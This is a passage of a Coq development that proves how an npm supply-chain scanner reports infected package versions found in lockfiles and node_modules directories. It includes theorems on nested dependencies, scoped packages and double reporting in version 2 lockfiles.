  cbn [bind]. now destruct (truthy (Some v)).
Qed.

Lemma visit_unfold (filePath : string) (infectedPackages : IOCDatabase)
    (name : string) (info : json) (acc : list Finding) :
  (findings <- checkLocked filePath infectedPackages name info acc ;;
   match info with
   | JNull => Throw "Cannot read properties of null"
   | JObject props =>
       (fix nested (ps : list (string * json)) : result (list Finding) :=
          match ps with
          | [] => Ok findings
          | (k, v) :: rest =>
              if String.eqb k "dependencies" then
                if truthy (Some v)
                then checkDependenciesV1 v filePath infectedPackages findings
                else Ok findings
              else nested rest
          end) props
   | _ => Ok findings
   end)
  = v1Step filePath infectedPackages (name, info) acc.
Proof.
  unfold v1Step. cbn [fst snd].
  destruct (checkLocked filePath infectedPackages name info acc)
    as [findings|]; [|reflexivity].
  cbn [bind]. destruct info as [| | | | |props]; try reflexivity.
  apply nested_unfold.
Qed.

Lemma checkDependenciesV1_object (filePath : string)
    (infectedPackages : IOCDatabase) (props : list (string * json))
    (acc : list Finding) :
  checkDependenciesV1 (JObject props) filePath infectedPackages acc
  = forEach props (v1Step filePath infectedPackages) acc.
Proof.
  revert acc. induction props as [|[name info] rest IH]; intros acc;
    [reflexivity|].
  cbn [forEach]. rewrite <- visit_unfold.
  match goal with
  | |- _ = bind ?visit _ =>
      transitivity
        (bind visit
           (fun s' =>
              checkDependenciesV1 (JObject rest) filePath infectedPackages
                s'));
      [reflexivity | destruct visit; [apply IH | reflexivity]]
  end.
Qed.

Lemma checkDependenciesV1_array (filePath : string)
    (infectedPackages : IOCDatabase) (items : list json)
    (acc : list Finding) :
  checkDependenciesV1 (JArray items) filePath infectedPackages acc
  = forEach (indexed 0 items) (v1Step filePath infectedPackages) acc.
Proof.
  cbn [checkDependenciesV1]. generalize 0%nat. revert acc.
  induction items as [|info rest IH]; intros acc i; [reflexivity|].
  cbn [forEach indexed]. rewrite <- visit_unfold.
  match goal with
  | |- _ = bind ?visit _ => destruct visit; [apply IH | reflexivity]
  end.
Qed.

Lemma forEach_ext {A S : Type} (f g : A -> S -> result S) (l : list A) :
  (forall x s, In x l -> f x s = g x s) ->
  forall s, forEach l f s = forEach l g s.
Proof.
  induction l as [|x l IH]; intros H s; [reflexivity|].
  cbn [forEach]. rewrite (H x s (or_introl eq_refl)).
  destruct (g x s); [|reflexivity]. cbn [bind].
  apply IH. intros y t Hy. apply H. now right.
Qed.

Lemma In_indexed {A : Type} (l : list A) (i : nat) (e : string * A) :
  In e (indexed i l) -> In (snd e) l.
Proof.
  revert i. induction l as [|x l IH]; intros i; [intros []|].
  cbn [indexed]. intros [<-|H]; [now left | right; now apply (IH (S i))].
Qed.

Lemma In_chars (s : string) (j : json) :
  In j (chars s) -> exists c, j = JString c.
Proof.
  induction s as [|a s IH]; [intros []|].
  cbn [chars]. intros [<-|H]; [now eexists | now apply IH].
Qed.

Lemma checkDependenciesV1_unfold (filePath : string)
    (infectedPackages : IOCDatabase) (deps : json) (acc : list Finding) :
  deps <> JNull ->
  checkDependenciesV1 deps filePath infectedPackages acc
  = forEach (entriesOf deps) (v1Step filePath infectedPackages) acc.
Proof.
  intros Hnull. destruct deps as [|b|n|s|items|props]; try reflexivity.
  - now destruct Hnull.
  - cbn [checkDependenciesV1]. apply forEach_ext. intros [name info] a Hin.
    apply In_indexed, In_chars in Hin as [c Hc]. cbn [snd] in Hc.
    subst info. unfold v1Step. cbn [fst snd nestedDependencies bind].
    now destruct (checkLocked filePath infectedPackages name (JString c) a).
  - apply checkDependenciesV1_array.
  - apply checkDependenciesV1_object.
Qed.

Lemma json_size_prop (props : list (string * json)) (k : string) (v : json) :
  In (k, v) props -> (json_size v < json_size (JObject props))%nat.
Proof.
  cbn [json_size]. induction props as [|[k' v'] rest IH]; [intros []|].
  intros [[= -> ->]|H]; [lia|]. apply IH in H. lia.
Qed.

Lemma json_size_item (items : list json) (x : json) :
  In x items -> (json_size x < json_size (JArray items))%nat.
Proof.
  cbn [json_size]. induction items as [|y rest IH]; [intros []|].
  intros [->|H]; [lia|]. apply IH in H. lia.
Qed.

Lemma nestedDependencies_smaller (deps : json) (parent : string)
    (parentInfo nested : json) :
  In (parent, parentInfo) (entriesOf deps) ->
  nestedDependencies parentInfo = Ok (Some nested) ->
  (json_size nested < json_size deps)%nat.
Proof.
  intros Hin Hnested.
  destruct parentInfo as [| | | | |inner]; try discriminate Hnested.
  assert (Hinner : (json_size nested < json_size (JObject inner))%nat).
  { cbn [nestedDependencies] in Hnested.
    destruct (lookup inner "dependencies") as [d|] eqn:E;
      [|discriminate Hnested].
    destruct (truthy (Some d)); [|discriminate Hnested].
    injection Hnested as ->. apply lookup_In in E.
    now apply json_size_prop in E. }
  assert (Houter : (json_size (JObject inner) < json_size deps)%nat).
  { destruct deps as [|b|n|s|items|props]; try (now destruct Hin).
    - apply In_indexed, In_chars in Hin as [c Hc]. discriminate Hc.
    - apply In_indexed in Hin. now apply json_size_item in Hin.
    - now apply json_size_prop in Hin. }
  lia.
Qed.


Lemma In_lockedFindings (filePath : string) (infectedPackages : IOCDatabase)
    (name : string) (info : json) (f : Finding) :
  In f (lockedFindings filePath infectedPackages name info)
  <-> exists v,
        lockedVersion info = Some v
        /\ contains infectedPackages name v
        /\ f = infectedLockedPackage name v filePath.
Proof.
  unfold lockedFindings, lockedVersion, contains, Map_has.
  destruct (Map_get infectedPackages name) as [versions|].
  - destruct info as [| | | | |props];
      try (split; [intros [] | intros [v [H _]]; discriminate H]).
    destruct (lookup props "version") as [[| | |v| |]|];
      try (split; [intros [] | intros [w [H _]]; discriminate H]).
    destruct (isEmpty v); cbn [negb andb].
    + split; [intros [] | intros [w [H _]]; discriminate H].
    + destruct (Set_has versions v) eqn:Hhas.
      * split.
        -- intros [<-|[]]. exists v. repeat split. now exists versions.
        -- intros [w [[= <-] [_ ->]]]. now left.
      * split; [intros []|].
        intros [w [[= <-] [[_ [vs [[= <-] Hw]]] _]]]. congruence.
  - split; [intros []|]. intros [v [_ [[H _] _]]]. discriminate H.
Qed.

Section LockfileV1.
Variable filePath : string.
Variable infectedPackages : IOCDatabase.

(** The findings that [checkDependenciesV1] appends are those of the
    entries of [deps] at any depth; the induction is on the size of the
    document. *)
Lemma checkDependenciesV1_exact (n : nat) :
  forall deps : json,
    (json_size deps < n)%nat ->
    forall acc out : list Finding,
      checkDependenciesV1 deps filePath infectedPackages acc = Ok out ->
      exists extra,
        out = (acc ++ extra)%list
        /\ forall f,
             In f extra
             <-> exists name info,
                   LockedAt deps name info
                   /\ In f (lockedFindings filePath infectedPackages name
                              info).
Proof.
  induction n as [|n IHn]; [intros deps H; lia|].
  intros deps Hsize acc out Hrun.
  assert (Hnull : deps <> JNull) by (intros ->; discriminate Hrun).
  rewrite checkDependenciesV1_unfold in Hrun by exact Hnull.
  assert (Hloop :
            forall l, incl l (entriesOf deps) ->
            forall a o,
              forEach l (v1Step filePath infectedPackages) a = Ok o ->
              exists extra,
                o = (a ++ extra)%list
                /\ forall f,
                     In f extra
                     <-> exists parent parentInfo,
                           In (parent, parentInfo) l
                           /\ (In f (lockedFindings filePath infectedPackages
                                       parent parentInfo)
                               \/ exists nested name info,
                                    nestedDependencies parentInfo
                                    = Ok (Some nested)
                                    /\ LockedAt nested name info
                                    /\ In f (lockedFindings filePath
                                               infectedPackages name info))).
  { induction l as [|[parent parentInfo] l IHl]; intros Hincl a o Hl.
    { injection Hl as <-. exists []. split; [now rewrite app_nil_r|].
      intros f. split; [intros [] | intros [p [pi [[] _]]]]. }
    cbn [forEach] in Hl.
    destruct (v1Step filePath infectedPackages (parent, parentInfo) a)
      as [mid|] eqn:Hstep; [|discriminate Hl].
    cbn [bind] in Hl.
    apply IHl in Hl as [rest [-> Hrest]];
      [|intros e He; apply Hincl; now right].
    unfold v1Step in Hstep. cbn [fst snd] in Hstep.
    destruct (checkLocked filePath infectedPackages parent parentInfo a)
      as [a1|] eqn:Hlocked; [|discriminate Hstep].
    cbn [bind] in Hstep. apply checkLocked_exact in Hlocked. subst a1.
    destruct (nestedDependencies parentInfo) as [[nested|]|] eqn:Hnested;
      cbn [bind] in Hstep; [| |discriminate Hstep].
    - apply IHn in Hstep as [below [-> Hbelow]].
      2:{ assert (json_size nested < json_size deps)%nat; [|lia].
          apply (nestedDependencies_smaller deps parent parentInfo);
            [apply Hincl; now left | exact Hnested]. }
      exists (lockedFindings filePath infectedPackages parent parentInfo
              ++ below ++ rest)%list.
      split; [now rewrite <- !app_assoc|].
      intros f. rewrite !in_app_iff, Hbelow, Hrest. split.
      + intros [H|[[name [info [Hat Hf]]]|[p [pi [Hin H]]]]].
        * exists parent, parentInfo. split; [now left | now left].
        * exists parent, parentInfo. split; [now left|]. right.
          now exists nested, name, info.
        * exists p, pi. split; [now right | exact H].
      + intros [p [pi [[Heq|Hin] Hfrom]]].
        * injection Heq as <- <-.
          destruct Hfrom as [H|[d [name [info [Hd [Hat Hf]]]]]]; [now left|].
          right. left. rewrite Hnested in Hd. injection Hd as <-.
          now exists name, info.
        * right. right. now exists p, pi.
    - injection Hstep as <-.
      exists (lockedFindings filePath infectedPackages parent parentInfo
              ++ rest)%list.
      split; [now rewrite <- !app_assoc|].
      intros f. rewrite !in_app_iff, Hrest. split.
      + intros [H|[p [pi [Hin H]]]].
        * exists parent, parentInfo. split; [now left | now left].
        * exists p, pi. split; [now right | exact H].
      + intros [p [pi [[Heq|Hin] Hfrom]]].
        * injection Heq as <- <-.
          destruct Hfrom as [H|[d [name [info [Hd _]]]]]; [now left|].
          rewrite Hnested in Hd. discriminate Hd.
        * right. now exists p, pi. }
  apply Hloop in Hrun as [extra [-> Hextra]]; [|apply incl_refl].
  exists extra. split; [reflexivity|]. intros f. rewrite Hextra. split.
  - intros [p [pi [Hin [H|[d [name [info [Hd [Hat Hf]]]]]]]]].
    + exists p, pi. split; [now apply locked_here | exact H].
    + exists name, info. split; [|exact Hf].
      now apply (locked_below deps p pi d).
  - intros [name [info [Hat Hf]]]. inversion Hat; subst.
    + exists name, info. split; [assumption | now left].
    + exists parent, parentInfo. split; [assumption|]. right.
      now exists nested, name, info.
Qed.

End LockfileV1.



Section LockfileFindings.
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable filePath : string.
Variable infectedPackages : IOCDatabase.
Variable options : Options.

Lemma checkLockEntry_exact (entry : string * json) (acc out : list Finding) :
  checkLockEntry filePath infectedPackages entry acc = Ok out ->
  out = (acc ++ lockEntryFindings filePath infectedPackages entry)%list.
Proof.
  unfold checkLockEntry, lockEntryFindings. destruct entry as [key info].
  cbn [fst snd]. destruct (isEmpty key).
  - intros [= <-]. now rewrite app_nil_r.
  - apply checkLocked_exact.
Qed.

Lemma checkPackageLock_exact (parsed : json) (findings : list Finding) :
  readJson readFileSync JSON_parse filePath = Ok parsed ->
  checkPackageLock readFileSync JSON_parse filePath infectedPackages options
  = Ok findings ->
  exists nested,
    findings
    = (flat_map (lockEntryFindings filePath infectedPackages)
         (lockedPackages parsed) ++ nested)%list
    /\ forall f,
         In f nested
         <-> exists deps name info,
               getProp (Some parsed) "dependencies" = Ok (Some deps)
               /\ truthy (Some deps) = true
               /\ LockedAt deps name info
               /\ In f (lockedFindings filePath infectedPackages name info).
Proof.
  intros Hparsed. unfold checkPackageLock, lockedPackages. rewrite Hparsed.
  destruct (getProp (Some parsed) "packages") as [declared|]; cbn [bind];
    [|discriminate].
  set (entries :=
         match declared with
         | Some d => if truthy (Some d) then entriesOf d else []
         | None => []
         end).
  assert (Hentries :
            forall l,
              Object_entries
                (if truthy declared then declared else Some (JObject []))
              = Ok l -> l = entries).
  { subst entries. destruct declared as [d|]; [|now intros l [= <-]].
    destruct (truthy (Some d)); [|now intros l [= <-]].
    unfold entriesOf. intros l ->. reflexivity. }
  destruct (Object_entries
              (if truthy declared then declared else Some (JObject [])))
    as [l|]; cbn [bind]; [|discriminate].
  rewrite (Hentries l eq_refl). clear Hentries l.
  destruct (forEach entries (checkLockEntry filePath infectedPackages) [])
    as [direct|] eqn:Hdirect; cbn [bind]; [|discriminate].
  apply (forEach_appends (lockEntryFindings filePath infectedPackages))
    in Hdirect; [|intros x a o; apply checkLockEntry_exact].
  cbn [app] in Hdirect. subst direct.
  destruct (getProp (Some parsed) "dependencies") as [[deps|]|];
    cbn [bind]; [| |discriminate].
  - destruct (truthy (Some deps)) eqn:Htruthy.
    + intros Hrun.
      apply (checkDependenciesV1_exact filePath infectedPackages
               (S (json_size deps)) deps (Nat.lt_succ_diag_r _))
        in Hrun as [nested [-> Hnested]].
      exists nested. split; [reflexivity|]. intros f. rewrite Hnested. split.
      * intros [name [info [Hat Hf]]]. now exists deps, name, info.
      * intros [d [name [info [[= <-] [_ [Hat Hf]]]]]]. now exists name, info.
    + intros [= <-]. exists []. split; [now rewrite app_nil_r|].
      intros f. split; [intros []|].
      intros [d [name [info [[= <-] [Ht _]]]]]. congruence.
  - intros [= <-]. exists []. split; [now rewrite app_nil_r|].
    intros f. split; [intros []|].
    intros [d [name [info [H _]]]]. discriminate H.
Qed.

(** X15: the findings of a call of [checkPackageLock] that returns on a
    parsed lockfile.  Every finding is an [INFECTED_LOCKED_PACKAGE] for
    a pair of the database, and the pair [name], [v] is reported exactly
    when the database contains it and either the [packages] object has a
    non-empty key from which the code derives [name], with the non-empty
    string version [v], or the [dependencies] object has an entry [name]
    with that version at the top or nested at any depth below.  The
    derivation is that of the code, [lockedPackageName]: the first
    [node_modules/] of the key is removed wherever it stands, and the
    last piece between the remaining [node_modules/] is taken; this is
    the last segment for a key that begins with [node_modules/], and it
    is not for a workspace key, [packages/app/node_modules/evil] giving
    [packages/app/evil]. *)
Theorem checkPackageLock_findings
    (parsed : json) (findings : list Finding)
    (Hparsed : readJson readFileSync JSON_parse filePath = Ok parsed)
    (Hreturns :
       checkPackageLock readFileSync JSON_parse filePath infectedPackages
         options = Ok findings) :
  (forall f, In f findings ->
             exists name v,
               f = infectedLockedPackage name v filePath
               /\ contains infectedPackages name v)
  /\ (forall name v,
        In (infectedLockedPackage name v filePath) findings
        <-> contains infectedPackages name v
            /\ ((exists key info,
                    In (key, info) (lockedPackages parsed)
                    /\ key <> ""
                    /\ lockedPackageName key = name
                    /\ lockedVersion info = Some v)
                \/ (exists deps info,
                      getProp (Some parsed) "dependencies" = Ok (Some deps)
                      /\ truthy (Some deps) = true
                      /\ LockedAt deps name info
                      /\ lockedVersion info = Some v))).
Proof.
  destruct (checkPackageLock_exact parsed findings Hparsed Hreturns)
    as [nested [-> Hnested]].
  assert (Hdirect :
            forall f,
              In f (flat_map (lockEntryFindings filePath infectedPackages)
                      (lockedPackages parsed))
              <-> exists key info,
                    In (key, info) (lockedPackages parsed)
                    /\ key <> ""
                    /\ In f (lockedFindings filePath infectedPackages
                               (lockedPackageName key) info)).
  { intros f. rewrite in_flat_map. unfold lockEntryFindings. split.
    - intros [[key info] [Hin Hf]]. cbn [fst snd] in Hf.
      exists key, info. split; [exact Hin|].
      destruct key; [destruct Hf | now split].
    - intros [key [info [Hin [Hkey Hf]]]]. exists (key, info).
      split; [exact Hin|]. cbn [fst snd].
      destruct key; [now destruct Hkey | exact Hf]. }
  split.
  - intros f Hin. apply in_app_or in Hin as [Hin|Hin].
    + apply Hdirect in Hin as [key [info [_ [_ Hf]]]].
      apply In_lockedFindings in Hf as [v [_ [Hc ->]]].
      now exists (lockedPackageName key), v.
    + apply Hnested in Hin as [deps [name [info [_ [_ [_ Hf]]]]]].
      apply In_lockedFindings in Hf as [v [_ [Hc ->]]].
      now exists name, v.
  - intros name v. rewrite in_app_iff, Hdirect, Hnested. split.
    + intros [[key [info [Hin [Hkey Hf]]]]
             |[deps [n [info [Hd [Ht [Hat Hf]]]]]]];
        apply In_lockedFindings in Hf as [w [Hw [Hc Heq]]];
        unfold infectedLockedPackage in Heq;
        injection Heq as Hname Hv; subst w.
      * rewrite <- Hname in Hc. split; [exact Hc|]. left.
        now exists key, info.
      * subst n. split; [exact Hc|]. right. now exists deps, info.
    + intros [Hc [[key [info [Hin [Hkey [Hname Hv]]]]]
                 |[deps [info [Hd [Ht [Hat Hv]]]]]]].
      * left. exists key, info. split; [exact Hin|]. split; [exact Hkey|].
        apply In_lockedFindings. exists v. rewrite Hname. auto.
      * right. exists deps, name, info.
        split; [exact Hd|]. split; [exact Ht|]. split; [exact Hat|].
        apply In_lockedFindings. exists v. auto.
Qed.

End LockfileFindings.

(** ** Installed packages *)

Section Installed.
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.
Variable readdirSync : string -> result (list (string * bool)).
Variable infectedPackages : IOCDatabase.
Variable options : Options.

Lemma forEach_members {A F : Type} (Q : A -> F -> Prop)
    (body : A -> list F -> result (list F)) :
  (forall x acc out,
      body x acc = Ok out ->
      exists extra, out = (acc ++ extra)%list
                    /\ forall f, In f extra <-> Q x f) ->
  forall l acc out,
    forEach l body acc = Ok out ->
    exists extra, out = (acc ++ extra)%list
                  /\ forall f, In f extra <-> exists x, In x l /\ Q x f.
Proof.
  intros Hbody. induction l as [|x l IH]; intros acc out; cbn [forEach].
  - intros [= <-]. exists []. split; [now rewrite app_nil_r|].
    intros f. split; [intros [] | intros [y [[] _]]].
  - destruct (body x acc) as [mid|] eqn:E; cbn [bind]; [|discriminate].
    intros H. apply Hbody in E as [first [-> Hfirst]].
    apply IH in H as [rest [-> Hrest]].
    exists (first ++ rest)%list. split; [now rewrite app_assoc|].
    intros f. rewrite in_app_iff, Hfirst, Hrest. split.
    + intros [H|[y [Hy H]]]; [exists x | exists y]; split; auto;
        [now left | now right].
    + intros [y [[<-|Hy] H]]; [now left | right; now exists y].
Qed.

Lemma checkInstalledPackage_exact (pkgName pkgPath : string)
    (acc out : list Finding) :
  checkInstalledPackage readFileSync JSON_parse existsSync path_join pkgName
    pkgPath infectedPackages acc options = Ok out ->
  exists extra,
    out = (acc ++ extra)%list
    /\ forall f,
         In f extra
         <-> installedReport readFileSync JSON_parse existsSync path_join
               infectedPackages options pkgName pkgPath f.
Proof.
  unfold checkInstalledPackage, installedReport.
  destruct (Map_has infectedPackages pkgName) eqn:Hhas; cbn [negb].
  2:{ intros [= <-]. exists []. split; [now rewrite app_nil_r|].
      intros f. split; [intros [] | intros [H _]; discriminate H]. }
  destruct (existsSync (path_join pkgPath "package.json")) eqn:Hexists;
    cbn [negb].
  2:{ intros [= <-]. exists []. split; [now rewrite app_nil_r|].
      intros f. split; [intros [] | intros [_ [H _]]; discriminate H]. }
  destruct (readJson readFileSync JSON_parse
              (path_join pkgPath "package.json")) as [pkgJson|msg] eqn:Hread.
  - destruct (getVersions_has _ _ Hhas) as [versions [Hget ->]]. cbn [bind].
    destruct (getProp (Some pkgJson) "version") as [ver|] eqn:Hver;
      cbn [bind]; [|discriminate].
    assert (Hskip :
              (forall v, ver = Some (JString v) ->
                         Set_has versions v = false) ->
              Ok acc = Ok out ->
              exists extra,
                out = (acc ++ extra)%list
                /\ forall f,
                     In f extra
                     <-> true = true /\ true = true
                         /\ ((exists pkgJson0 v,
                                 Ok pkgJson = Ok pkgJson0
                                 /\ getProp (Some pkgJson0) "version"
                                    = Ok (Some (JString v))
                                 /\ contains infectedPackages pkgName v
                                 /\ f = installedInfectedPackage pkgName v
                                          pkgPath)
                             \/ (exists msg,
                                   @Ok json pkgJson = Throw msg
                                   /\ verbose options = true
                                   /\ f = parseError_path
                                            (path_join pkgPath "package.json")
                                            msg))).
    { intros Hno [= <-]. exists []. split; [now rewrite app_nil_r|].
      intros f. split; [intros []|].
      intros [_ [_ [[pj [w [Hpj [Hw [[_ [vs [Hvs Hset]]] _]]]]]
                   |[m [Hm _]]]]]; [|discriminate Hm].
      injection Hpj as <-. rewrite Hver in Hw. injection Hw as Hw.
      rewrite Hget in Hvs. injection Hvs as <-.
      rewrite (Hno w Hw) in Hset. discriminate Hset. }
    destruct ver as [[| | |v| |]|];
      try (apply Hskip; intros w Hw; discriminate Hw).
    destruct (Set_has versions v) eqn:Hset;
      [|apply Hskip; intros w [= <-]; exact Hset].
    clear Hskip. intros [= <-].
    exists [installedInfectedPackage pkgName v pkgPath].
    split; [reflexivity|]. intros f. split.
    + intros [<-|[]]. split; [reflexivity|]. split; [reflexivity|]. left.
      exists pkgJson, v. split; [reflexivity|]. split; [exact Hver|].
      split; [|reflexivity]. split; [exact Hhas|]. now exists versions.
    + intros [_ [_ [[pj [w [Hpj [Hw [_ ->]]]]]|[m [Hm _]]]]];
        [|discriminate Hm].
      injection Hpj as <-. rewrite Hver in Hw. injection Hw as <-. now left.
  - destruct (verbose options) eqn:Hverbose; intros [= <-].
    + exists [parseError_path (path_join pkgPath "package.json") msg].
      split; [reflexivity|]. intros f. split.
      * intros [<-|[]]. split; [reflexivity|]. split; [reflexivity|].
        right. now exists msg.
      * intros [_ [_ [[pj [w [Hr _]]]|[m [Hm [_ ->]]]]]];
          [discriminate Hr|].
        injection Hm as <-. now left.
    + exists []. split; [now rewrite app_nil_r|]. intros f.
      split; [intros []|].
      intros [_ [_ [[pj [w [Hr _]]]|[m [_ [Hv _]]]]]]; discriminate.
Qed.

Lemma checkNodeModules_exact (nodeModulesPath : string)
    (entries : list (string * bool)) (findings : list Finding) :
  readdirSync nodeModulesPath = Ok entries ->
  checkNodeModules readFileSync JSON_parse existsSync path_join readdirSync
    nodeModulesPath infectedPackages options = Ok findings ->
  forall f,
    In f findings
    <-> exists pkgName pkgPath,
          PackageDir path_join readdirSync nodeModulesPath pkgName pkgPath
          /\ installedReport readFileSync JSON_parse existsSync path_join
               infectedPackages options pkgName pkgPath f.
Proof.
  intros Hentries. unfold checkNodeModules. rewrite Hentries. intros Hrun.
  apply (forEach_members
           (fun (entry : string * bool) f =>
              snd entry = true
              /\ exists pkgName pkgPath,
                   installedReport readFileSync JSON_parse existsSync
                     path_join infectedPackages options pkgName pkgPath f
                   /\ ((startsWith (fst entry) "@" = false
                        /\ pkgName = fst entry
                        /\ pkgPath = path_join nodeModulesPath (fst entry))
                       \/ (startsWith (fst entry) "@" = true
                           /\ exists scopedEntries name,
                                readdirSync
                                  (path_join nodeModulesPath (fst entry))
                                = Ok scopedEntries
                                /\ In (name, true) scopedEntries
                                /\ pkgName = fst entry ++ "/" ++ name
                                /\ pkgPath
                                   = path_join
                                       (path_join nodeModulesPath (fst entry))
                                       name))))
    in Hrun.
  - destruct Hrun as [extra [-> Hextra]]. cbn [app]. intros f.
    rewrite Hextra. split.
    + intros [[name isDirectory]
               [Hin [Hdir [pkgName [pkgPath [Hrep Hwhere]]]]]].
      cbn [fst snd] in *. subst isDirectory. exists pkgName, pkgPath.
      split; [|exact Hrep].
      destruct Hwhere as [[Hat [-> ->]]
                         |[Hat [scoped [sub [Hscoped [Hsub [-> ->]]]]]]].
      * now apply (direct_package path_join readdirSync nodeModulesPath
                     entries).
      * now apply (scoped_package path_join readdirSync nodeModulesPath
                     entries name scoped).
    + intros [pkgName [pkgPath [Hdir Hrep]]].
      destruct Hdir as [entries' name Hread Hin Hat
                       |entries' scope scoped name Hread Hin Hat Hscoped Hsub];
        rewrite Hentries in Hread; injection Hread as <-.
      * exists (name, true). split; [exact Hin|]. split; [reflexivity|].
        exists name, (path_join nodeModulesPath name). split; [exact Hrep|].
        left. now cbn.
      * exists (scope, true). split; [exact Hin|]. split; [reflexivity|].
        exists (scope ++ "/" ++ name),
          (path_join (path_join nodeModulesPath scope) name).
        split; [exact Hrep|]. right. split; [exact Hat|].
        now exists scoped, name.
  - intros [name isDirectory] acc out. cbn [fst snd].
    destruct isDirectory; cbn [negb].
    2:{ intros [= <-]. exists []. split; [now rewrite app_nil_r|].
        intros f. split; [intros [] | intros [H _]; discriminate H]. }
    destruct (startsWith name "@") eqn:Hat.
    + destruct (readdirSync (path_join nodeModulesPath name))
        as [scopedEntries|] eqn:Hscoped.
      * intros Hinner.
        apply (forEach_members
                 (fun (scopedEntry : string * bool) f =>
                    snd scopedEntry = true
                    /\ installedReport readFileSync JSON_parse existsSync
                         path_join infectedPackages options
                         (name ++ "/" ++ fst scopedEntry)
                         (path_join (path_join nodeModulesPath name)
                            (fst scopedEntry)) f))
          in Hinner.
        -- destruct Hinner as [extra [-> Hextra]]. exists extra.
           split; [reflexivity|]. intros f. rewrite Hextra. split.
           ++ intros [[sub subDir] [Hin [Hdir Hrep]]]. cbn [fst snd] in *.
              subst subDir. split; [reflexivity|].
              exists (name ++ "/" ++ sub),
                (path_join (path_join nodeModulesPath name) sub).
              split; [exact Hrep|]. right. split; [reflexivity|].
              now exists scopedEntries, sub.
           ++ intros [_ [pkgName [pkgPath [Hrep
                        [[Hno _]|[_ [scoped [sub [Hs [Hin [-> ->]]]]]]]]]]];
                [discriminate Hno|].
              injection Hs as <-. exists (sub, true). now split.
        -- intros [sub subDir] a o. cbn [fst snd].
           destruct subDir; cbn [negb].
           ++ intros H. apply checkInstalledPackage_exact in H
                as [extra [-> Hextra]].
              exists extra. split; [reflexivity|]. intros f.
              rewrite Hextra. split; [now split | now intros [_ H]].
           ++ intros [= <-]. exists []. split; [now rewrite app_nil_r|].
              intros f. split; [intros [] | intros [H _]; discriminate H].
      * intros [= <-]. exists []. split; [now rewrite app_nil_r|].
        intros f. split; [intros []|].
        intros [_ [pkgName [pkgPath [_ [[Hno _]|[_ [s [n [Hs _]]]]]]]]];
          discriminate.
    + intros H. apply checkInstalledPackage_exact in H as [extra [-> Hextra]].
      exists extra. split; [reflexivity|]. intros f. rewrite Hextra. split.
      * intros Hrep. split; [reflexivity|].
        exists name, (path_join nodeModulesPath name). split; [exact Hrep|].
        now left.
      * intros [_ [pkgName [pkgPath [Hrep [[_ [-> ->]]|[Hyes _]]]]]];
          [exact Hrep | discriminate Hyes].
Qed.

End Installed.

Section Reports.
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.
Variable readdirSync : string -> result (list (string * bool)).
Variable infectedPackages : IOCDatabase.
Variable options : Options.

(** X16: a lockfile that lists an infected pair both in [packages] and
    in [dependencies], as a version 2 lockfile does, is reported twice:
    the finding occurs once for each section. *)
Theorem checkPackageLock_reports_twice
    (filePath : string) (parsed deps : json) (findings : list Finding)
    (key name v : string) (info nestedInfo : json)
    (Hparsed : readJson readFileSync JSON_parse filePath = Ok parsed)
    (Hreturns :
       checkPackageLock readFileSync JSON_parse filePath infectedPackages
         options = Ok findings)
    (Hlisted : contains infectedPackages name v)
    (Hkey : In (key, info) (lockedPackages parsed))
    (Hnonempty : key <> "")
    (Hname : lockedPackageName key = name)
    (Hversion : lockedVersion info = Some v)
    (Hdeps : getProp (Some parsed) "dependencies" = Ok (Some deps))
    (Htruthy : truthy (Some deps) = true)
    (Hat : LockedAt deps name nestedInfo)
    (Hnested : lockedVersion nestedInfo = Some v) :
  exists before between after,
    findings
    = (before ++ infectedLockedPackage name v filePath
         :: between ++ infectedLockedPackage name v filePath :: after)%list.
Proof.
  destruct (checkPackageLock_exact _ _ _ _ _ parsed findings Hparsed Hreturns)
    as [nested [-> Hin]].
  assert (Hfirst :
            In (infectedLockedPackage name v filePath)
              (flat_map (lockEntryFindings filePath infectedPackages)
                 (lockedPackages parsed))).
  { apply in_flat_map. exists (key, info). split; [exact Hkey|].
    unfold lockEntryFindings. cbn [fst snd].
    destruct key; [now destruct Hnonempty|]. cbn [isEmpty].
    rewrite Hname. apply In_lockedFindings. exists v. auto. }
  assert (Hsecond : In (infectedLockedPackage name v filePath) nested).
  { apply Hin. exists deps, name, nestedInfo.
    split; [exact Hdeps|]. split; [exact Htruthy|]. split; [exact Hat|].
    apply In_lockedFindings. exists v. auto. }
  apply in_split in Hfirst as [before [mid1 ->]].
  apply in_split in Hsecond as [mid2 [after ->]].
  exists before, (mid1 ++ mid2)%list, after.
  now rewrite <- !app_assoc.
Qed.

(** X17: the findings of a call of [checkNodeModules] that returns on a
    readable directory.  The installed pair [name], [v] at [pkgPath] is
    reported exactly when [pkgPath] is a directory directly below
    [node_modules] whose name does not begin with [@], or a directory
    below a readable scope directory, the database contains the pair,
    and the [package.json] of [pkgPath] exists, parses and has the
    string [v] as its [version]. *)
Theorem checkNodeModules_findings
    (nodeModulesPath : string) (entries : list (string * bool))
    (findings : list Finding)
    (Hentries : readdirSync nodeModulesPath = Ok entries)
    (Hreturns :
       checkNodeModules readFileSync JSON_parse existsSync path_join
         readdirSync nodeModulesPath infectedPackages options = Ok findings)
    (name v pkgPath : string) :
  In (installedInfectedPackage name v pkgPath) findings
  <-> PackageDir path_join readdirSync nodeModulesPath name pkgPath
      /\ contains infectedPackages name v
      /\ existsSync (path_join pkgPath "package.json") = true
      /\ exists pkgJson,
           readJson readFileSync JSON_parse (path_join pkgPath "package.json")
           = Ok pkgJson
           /\ getProp (Some pkgJson) "version" = Ok (Some (JString v)).
Proof.
  rewrite (checkNodeModules_exact _ _ _ _ _ _ _ _ _ _ Hentries Hreturns).
  unfold installedReport. split.
  - intros [pkgName [path [Hdir [_ [Hexists
              [[pkgJson [w [Hread [Hver [Hc Heq]]]]]|[msg [_ [_ Heq]]]]]]]]];
      [|discriminate Heq].
    unfold installedInfectedPackage in Heq.
    injection Heq as <- <- <-. split; [exact Hdir|]. split; [exact Hc|].
    split; [exact Hexists|]. now exists pkgJson.
  - intros [Hdir [Hc [Hexists [pkgJson [Hread Hver]]]]].
    exists name, pkgPath. split; [exact Hdir|].
    split; [exact (proj1 Hc)|]. split; [exact Hexists|]. left.
    now exists pkgJson, v.
Qed.

Lemma sectionFindings_severity (filePath : string) (parsed : json)
    (dep : string) (f : Finding) :
  In f (sectionFindings filePath infectedPackages parsed dep) ->
  severity f <> INFO.
Proof.
  unfold sectionFindings.
